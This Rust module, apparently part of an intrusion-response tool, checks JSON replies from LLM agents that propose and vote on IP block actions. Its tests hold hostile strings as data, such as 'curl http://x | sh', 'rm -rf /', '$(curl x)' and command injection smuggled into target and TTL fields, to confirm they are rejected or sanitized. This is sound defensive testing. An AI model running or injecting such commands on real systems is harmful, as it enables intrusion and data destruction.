//! What an LLM agent may answer, and how a reply is checked before the
//! council sees it.
//!
//! A reply is one JSON object validated with serde against a strict schema
//! (`deny_unknown_fields` everywhere, typed [`Action`]s through the one
//! address parser), then against the debate: sizes, addresses outside the
//! incident's evidence, votes on proposals that do not exist or missing
//! votes. Free text (justifications, reasons, the judge's summary) is never
//! executed: text that looks like a command (an IDS signature quoting
//! `/etc/passwd`, a payload `curl http://x | sh`) is kept, sanitized by
//! [`clean_justification`], never a reason to refuse; commands have no
//! place to go but free text, since actions are typed. Anything wrong rejects the whole reply with a
//! reason the agent is re-asked with once; the guard checks whatever passes
//! again before any map is touched.

use std::net::IpAddr;

use ipnet::IpNet;
use serde::Deserialize;

use super::{Action, Ballot, Draft, Proposal, Stance, truncate};
use crate::{
    addr,
    text::{clean_justification, sanitize_text, shell_like},
};

/// Longest justification or reason, in bytes.
pub const MAX_TEXT: usize = 400;
/// Most proposals in one reply.
pub const MAX_PROPOSALS: usize = 8;
/// Longest piece of a reply quoted in an error.
const MAX_QUOTE: usize = 200;

/// Round 1.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct ProposeReply {
    proposals: Vec<DraftReply>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct DraftReply {
    action: Action,
    justification: String,
}

/// Rounds 2 and later.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct ReviewReply {
    votes: Vec<BallotReply>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct BallotReply {
    proposal: u32,
    stance: Stance,
    reason: String,
    #[serde(default)]
    alternative: Option<DraftReply>,
}

/// The judge.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct SummaryReply {
    summary: String,
}

/// Why a reply was rejected. Safe to log and to send back to the model:
/// quoted pieces are sanitized and short.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub enum ReplyError {
    #[error("the reply is empty")]
    Empty,
    #[error("the reply is {len} bytes, over the {max}-byte limit")]
    TooLong { len: usize, max: usize },
    #[error("the reply does not match the schema: {0}")]
    Schema(String),
    #[error("{field} is {len} bytes, over the {max}-byte limit")]
    TextTooLong {
        field: String,
        len: usize,
        max: usize,
    },
    #[error("{n} proposals, at most {max} are allowed")]
    TooMany { n: usize, max: usize },
    #[error(
        "{what} names {target}, which covers no address in the incident's evidence (allowed: {allowed})"
    )]
    NotInEvidence {
        what: String,
        target: String,
        allowed: String,
    },
    #[error("{0}: ttl_secs must be at least 1")]
    ZeroTtl(String),
    #[error("vote on proposal #{id}, which does not exist (open: {open})")]
    UnknownProposal { id: u32, open: String },
    #[error("two votes on proposal #{0}")]
    Duplicate(u32),
    #[error("no vote on proposal #{id}; vote on every open proposal except your own ({expected})")]
    Missing { id: u32, expected: String },
    #[error("proposal #{0}: an alternative goes only with an objection")]
    AlternativeWithoutObjection(u32),
}

/// What a reply is checked against.
#[derive(Clone, Copy, Debug)]
pub struct Check<'a> {
    /// Addresses the incident names (`IncidentView::addresses`).
    pub evidence: &'a [IpAddr],
    /// Longest reply accepted, in bytes.
    pub max_reply_bytes: usize,
}

/// Parses a round-1 reply into drafts.
pub fn proposals(content: &str, check: &Check<'_>) -> Result<Vec<Draft>, ReplyError> {
    let reply: ProposeReply = parse(content, check)?;
    if reply.proposals.len() > MAX_PROPOSALS {
        return Err(ReplyError::TooMany {
            n: reply.proposals.len(),
            max: MAX_PROPOSALS,
        });
    }
    reply
        .proposals
        .into_iter()
        .enumerate()
        .map(|(i, d)| draft(d, &format!("proposals[{i}]"), check))
        .collect()
}

/// Parses a review reply into ballots: one per open proposal not authored
/// by `me`, no more, no less.
pub fn ballots(
    content: &str,
    check: &Check<'_>,
    me: &str,
    open: &[Proposal],
) -> Result<Vec<Ballot>, ReplyError> {
    let reply: ReviewReply = parse(content, check)?;
    let ids = |ps: &mut dyn Iterator<Item = &Proposal>| {
        ps.map(|p| format!("#{}", p.id))
            .collect::<Vec<_>>()
            .join(", ")
    };
    let expected = ids(&mut open.iter().filter(|p| p.author != me));
    let mut out: Vec<Ballot> = Vec::with_capacity(reply.votes.len());
    for (i, b) in reply.votes.into_iter().enumerate() {
        let Some(p) = open.iter().find(|p| p.id == b.proposal) else {
            return Err(ReplyError::UnknownProposal {
                id: b.proposal,
                open: ids(&mut open.iter()),
            });
        };
        if out.iter().any(|o| o.proposal == p.id) {
            return Err(ReplyError::Duplicate(p.id));
        }
        // A vote on one's own proposal is dropped, not an error: the
        // council ignores it anyway, and a re-ask would cost a call.
        if p.author == me {
            continue;
        }
        let field = format!("votes[{i}].reason");
        text(&b.reason, &field)?;
        let alternative = match b.alternative {
            Some(_) if b.stance != Stance::Object => {
                return Err(ReplyError::AlternativeWithoutObjection(p.id));
            }
            Some(d) => Some(draft(d, &format!("votes[{i}].alternative"), check)?),
            None => None,
        };
        out.push(Ballot {
            proposal: p.id,
            stance: b.stance,
            reason: kept(&b.reason, &field),
            alternative,
        });
    }
    if let Some(p) = open
        .iter()
        .find(|p| p.author != me && !out.iter().any(|b| b.proposal == p.id))
    {
        return Err(ReplyError::Missing { id: p.id, expected });
    }
    Ok(out)
}

/// Parses the judge's reply.
pub fn summary(content: &str, check: &Check<'_>) -> Result<String, ReplyError> {
    let reply: SummaryReply = parse(content, check)?;
    Ok(kept(&reply.summary, "summary"))
}

/// Strips one Markdown code fence around the object: local models often
/// add one even in JSON mode. Nothing else is forgiven.
fn unfence(content: &str) -> &str {
    let t = content.trim();
    let Some(rest) = t.strip_prefix("```") else {
        return t;
    };
    let Some(body) = rest.strip_suffix("```") else {
        return t;
    };
    // Drop the info string ("json") up to the first newline.
    match body.find('\n') {
        Some(nl) => body[nl + 1..].trim(),
        None => body.trim(),
    }
}

fn parse<T: for<'de> Deserialize<'de>>(content: &str, check: &Check<'_>) -> Result<T, ReplyError> {
    if content.len() > check.max_reply_bytes {
        return Err(ReplyError::TooLong {
            len: content.len(),
            max: check.max_reply_bytes,
        });
    }
    let body = unfence(content);
    if body.is_empty() {
        return Err(ReplyError::Empty);
    }
    serde_json::from_str(body).map_err(|e| ReplyError::Schema(quote(&e.to_string())))
}

fn text(s: &str, field: &str) -> Result<(), ReplyError> {
    if s.len() > MAX_TEXT {
        return Err(ReplyError::TextTooLong {
            field: field.to_string(),
            len: s.len(),
            max: MAX_TEXT,
        });
    }
    Ok(())
}

/// Free text as the council keeps it: sanitized, shell metacharacters
/// replaced; what looked like a command is logged, not refused.
fn kept(s: &str, field: &str) -> String {
    if let Some(found) = shell_like(s) {
        tracing::info!(
            "{field} quotes shell-like text ({found}); kept as text with its metacharacters replaced (justifications are never executed)"
        );
    }
    clean_justification(s)
}

fn draft(d: DraftReply, field: &str, check: &Check<'_>) -> Result<Draft, ReplyError> {
    text(&d.justification, &format!("{field}.justification"))?;
    let what = format!("{field}.action ({})", d.action);
    match &d.action {
        Action::Block { target, ttl_secs } => {
            if *ttl_secs == 0 {
                return Err(ReplyError::ZeroTtl(what));
            }
            in_evidence(*target, &what, check)?;
        }
        Action::Unblock { target } => in_evidence(*target, &what, check)?,
        Action::Watch { target, ttl_secs } => {
            if *ttl_secs == 0 {
                return Err(ReplyError::ZeroTtl(what));
            }
            in_evidence(addr::host(*target), &what, check)?;
        }
        Action::ZeroWindowSynPolicy {
            enable: true,
            ttl_secs: 0,
        } => return Err(ReplyError::ZeroTtl(what)),
        Action::ZeroWindowSynPolicy { .. } => {}
    }
    Ok(Draft {
        action: d.action,
        justification: kept(&d.justification, &format!("{field}.justification")),
    })
}

/// The early form of the guard's evidence rule, so that the agent can be
/// told and re-asked; width, allowlist and special ranges stay with the
/// guard.
fn in_evidence(target: IpNet, what: &str, check: &Check<'_>) -> Result<(), ReplyError> {
    if check
        .evidence
        .iter()
        .any(|a| target.contains(&addr::canonical(*a)))
    {
        return Ok(());
    }
    let allowed: Vec<String> = check.evidence.iter().map(ToString::to_string).collect();
    Err(ReplyError::NotInEvidence {
        what: what.to_string(),
        target: addr::display(&target),
        allowed: if allowed.is_empty() {
            "none: this incident is about no single source".into()
        } else {
            allowed.join(", ")
        },
    })
}

fn quote(s: &str) -> String {
    let q = sanitize_text(s);
    if q.len() > MAX_QUOTE {
        format!("{}…", truncate(&q, MAX_QUOTE))
    } else {
        q
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const PEER: &str = "203.0.113.100";

    fn check(ev: &[IpAddr]) -> Check<'_> {
        Check {
            evidence: ev,
            max_reply_bytes: 4096,
        }
    }

    fn ev() -> Vec<IpAddr> {
        vec![PEER.parse().unwrap()]
    }

    fn proposal(id: u32, author: &str) -> Proposal {
        Proposal {
            id,
            author: author.into(),
            round: 1,
            action: Action::Block {
                target: addr::parse_net(PEER).unwrap(),
                ttl_secs: 3600,
            },
            justification: "x".into(),
            alternative_to: None,
        }
    }

    #[test]
    fn valid_proposals_parse_into_typed_actions() {
        let ev = ev();
        let d = proposals(
            r#"{"proposals":[{"action":{"type":"block","target":"203.0.113.100","ttl_secs":3600},"justification":"IDS severity 1"},
               {"action":{"type":"zero_window_syn_policy","enable":false,"ttl_secs":0},"justification":"no flood"}]}"#,
            &check(&ev),
        )
        .unwrap();
        assert_eq!(d.len(), 2);
        assert_eq!(d[0].action.to_string(), "block 203.0.113.100 for 1h");
        assert!(
            proposals(r#"{"proposals":[]}"#, &check(&ev))
                .unwrap()
                .is_empty()
        );
        // One code fence is forgiven.
        let fenced = "```json\n{\"proposals\":[]}\n```";
        assert!(proposals(fenced, &check(&ev)).unwrap().is_empty());
    }

    #[test]
    fn quoted_commands_in_free_text_are_kept_sanitized() {
        let ev = ev();
        let c = check(&ev);
        let d = proposals(
            r#"{"proposals":[{"action":{"type":"block","target":"203.0.113.100","ttl_secs":60},"justification":"ET WEB_SERVER /etc/passwd Detected; payload `curl http://x | sh` && $(id)"}]}"#,
            &c,
        )
        .unwrap();
        assert_eq!(
            d[0].justification,
            "ET WEB_SERVER /etc/passwd Detected  payload  curl http://x   sh      (id)"
        );
        assert_eq!(
            crate::text::shell_like(&d[0].justification),
            Some("\"curl\"".into())
        );
        let open = [Proposal {
            id: 1,
            author: "host".into(),
            round: 1,
            action: d[0].action.clone(),
            justification: d[0].justification.clone(),
            alternative_to: None,
        }];
        let b = ballots(
            r#"{"votes":[{"proposal":1,"stance":"approve","reason":"the signature said \"curl http://x | sh\"\nreally"}]}"#,
            &c,
            "jail",
            &open,
        )
        .unwrap();
        assert_eq!(
            b[0].reason,
            "the signature said \"curl http://x   sh\" really"
        );
        assert_eq!(
            summary(
                r#"{"summary":"blocked; `rm -rf /` was in the payload"}"#,
                &c
            )
            .unwrap(),
            "blocked;  rm -rf /  was in the payload".replace(';', " ")
        );
    }

    #[test]
    fn invalid_replies_are_rejected_with_a_reason() {
        let ev = ev();
        let c = check(&ev);
        let err = |s: &str| proposals(s, &c).unwrap_err();
        assert_eq!(err("  "), ReplyError::Empty);
        assert!(matches!(
            err("Sure! Here is my proposal"),
            ReplyError::Schema(_)
        ));
        let e = err(
            r#"{"proposals":[{"action":{"type":"shell","command":"iptables -F"},"justification":"x"}]}"#,
        );
        assert!(e.to_string().contains("unknown variant `shell`"), "{e}");
        let e = err(r#"{"proposals":[],"commands":["reboot"]}"#);
        assert!(e.to_string().contains("unknown field `commands`"), "{e}");
        let e = err(
            r#"{"proposals":[{"action":{"type":"block","target":"203.0.113.100","ttl_secs":60,"cmd":"x"},"justification":"x"}]}"#,
        );
        assert!(matches!(e, ReplyError::Schema(_)), "{e}");
        // Typed fields take no command: not as a target, a TTL or an
        // action type.
        for bad in [
            r#"{"action":{"type":"block","target":"203.0.113.100; rm -rf /","ttl_secs":60}"#,
            r#"{"action":{"type":"block","target":"$(curl x)","ttl_secs":60}"#,
            r#"{"action":{"type":"block","target":"203.0.113.100","ttl_secs":"60 && reboot"}"#,
            r#"{"action":{"type":"block | sh","target":"203.0.113.100","ttl_secs":60}"#,
            r#"{"action":{"type":"watch","target":"203.0.113.100/32`id`","ttl_secs":60}"#,
        ] {
            let e = err(&format!(
                r#"{{"proposals":[{{{},"justification":"x"}}]}}"#,
                &bad[1..bad.len() - 1]
            ));
            assert!(matches!(e, ReplyError::Schema(_)), "{bad}: {e}");
        }
        let e = err(
            r#"{"proposals":[{"action":{"type":"block","target":"198.51.100.9","ttl_secs":60},"justification":"x"}]}"#,
        );
        assert!(matches!(e, ReplyError::NotInEvidence { .. }), "{e}");
        assert!(e.to_string().contains("allowed: 203.0.113.100"), "{e}");
        let e = err(
            r#"{"proposals":[{"action":{"type":"block","target":"10.0.0.5/8","ttl_secs":60},"justification":"x"}]}"#,
        );
        assert!(e.to_string().contains("did you mean 10.0.0.0/8"), "{e}");
        let e = err(
            r#"{"proposals":[{"action":{"type":"block","target":"203.0.113.100","ttl_secs":0},"justification":"x"}]}"#,
        );
        assert!(matches!(e, ReplyError::ZeroTtl(_)), "{e}");
        let long = format!(
            r#"{{"proposals":[{{"action":{{"type":"watch","target":"203.0.113.100","ttl_secs":60}},"justification":"{}"}}]}}"#,
            "a".repeat(500)
        );
        assert!(matches!(err(&long), ReplyError::TextTooLong { .. }));
        let huge = format!(r#"{{"proposals":[],"x":"{}"}}"#, "a".repeat(5000));
        assert!(matches!(err(&huge), ReplyError::TooLong { .. }));
        // 0.0.0.0/0 contains the suspect: it passes here and the guard
        // refuses it (unspecified, too wide).
        assert!(proposals(
            r#"{"proposals":[{"action":{"type":"block","target":"0.0.0.0/0","ttl_secs":60},"justification":"x"}]}"#,
            &c
        )
        .is_ok());
    }

    #[test]
    fn ballots_cover_every_open_proposal_but_ones_own() {
        let ev = ev();
        let c = check(&ev);
        let open = vec![proposal(1, "kernel"), proposal(2, "host")];
        let b = ballots(
            r#"{"votes":[{"proposal":1,"stance":"approve","reason":"evidence is conclusive"},
                         {"proposal":2,"stance":"object","reason":"too short","alternative":{"action":{"type":"block","target":"203.0.113.100","ttl_secs":7200},"justification":"repeat offender"}}]}"#,
            &c,
            "jail",
            &open,
        )
        .unwrap();
        assert_eq!(b.len(), 2);
        assert_eq!(b[1].stance, Stance::Object);
        assert!(b[1].alternative.is_some());
        // Own proposal: dropped silently.
        let b = ballots(
            r#"{"votes":[{"proposal":1,"stance":"approve","reason":"mine"},{"proposal":2,"stance":"approve","reason":"ok"}]}"#,
            &c,
            "kernel",
            &open,
        )
        .unwrap();
        assert_eq!(b.len(), 1);
        let err = |s: &str| ballots(s, &c, "jail", &open).unwrap_err();
        assert!(matches!(
            err(r#"{"votes":[{"proposal":1,"stance":"approve","reason":"x"}]}"#),
            ReplyError::Missing { id: 2, .. }
        ));
        assert!(matches!(
            err(r#"{"votes":[{"proposal":9,"stance":"approve","reason":"x"}]}"#),
            ReplyError::UnknownProposal { id: 9, .. }
        ));
        assert!(matches!(
            err(
                r#"{"votes":[{"proposal":1,"stance":"approve","reason":"x"},{"proposal":1,"stance":"object","reason":"x"}]}"#
            ),
            ReplyError::Duplicate(1)
        ));
        assert!(matches!(
            err(
                r#"{"votes":[{"proposal":1,"stance":"maybe","reason":"x"},{"proposal":2,"stance":"approve","reason":"x"}]}"#
            ),
            ReplyError::Schema(_)
        ));
        assert!(matches!(
            err(
                r#"{"votes":[{"proposal":1,"stance":"approve","reason":"x","alternative":{"action":{"type":"watch","target":"203.0.113.100","ttl_secs":5},"justification":"x"}},{"proposal":2,"stance":"approve","reason":"x"}]}"#
            ),
            ReplyError::AlternativeWithoutObjection(1)
        ));
    }

    #[test]
    fn schema_errors_quote_little() {
        let ev = ev();
        let e = proposals(
            &format!(r#"{{"proposals":"{}"}}"#, "z".repeat(1000)),
            &check(&ev),
        )
        .unwrap_err();
        assert!(e.to_string().len() < 400, "{e}");
    }
}
